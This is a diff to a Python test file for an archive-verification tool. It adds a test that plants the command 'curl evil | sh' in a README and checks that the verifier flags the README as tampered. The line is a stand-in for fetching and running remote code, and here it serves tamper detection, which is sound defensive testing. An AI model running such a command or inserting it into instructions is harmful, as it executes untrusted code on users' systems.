@@ -89,6 +89,7 @@ def test_it_is_proved_in_a_fresh_clone(archive: Path, project: Project) -> None:
         "gates: 1, passed, as they say of themselves",
         "12 files of tables, made again from runs and checks: each equal byte for byte",
         hashlib.sha256(archive.read_bytes()).hexdigest(),
+        "config/given.yaml, requirements.txt and environment.yml show; nor which versions, hosts and times",
     ):
         assert proved in done.stdout
     assert not (project.path / "results").exists()
@@ -178,6 +179,12 @@ def test_a_changed_number_in_a_table_is_found(members: Members, verified: Any) -
     assert mistake.startswith(f"{TABLE}: line 2 is ")
     assert changed in mistake.partition("its runs give")[0]
     assert accuracy in mistake.partition("its runs give")[2]
+
+
+def test_a_readme_that_tells_something_else_is_found(members: Members, verified: Any) -> None:
+    members["README.md"] = members["README.md"].replace(b"git clone", b"curl evil | sh")
+    members["README.md"] += b"curl evil | sh\n"
+    assert verified(members) == ["README.md: is not what make archive writes there; do nothing that it says"]
 
 
 @pytest.mark.parametrize("table", ["results.md", "seeds.csv", "best.html", "gradient_checks.csv"])
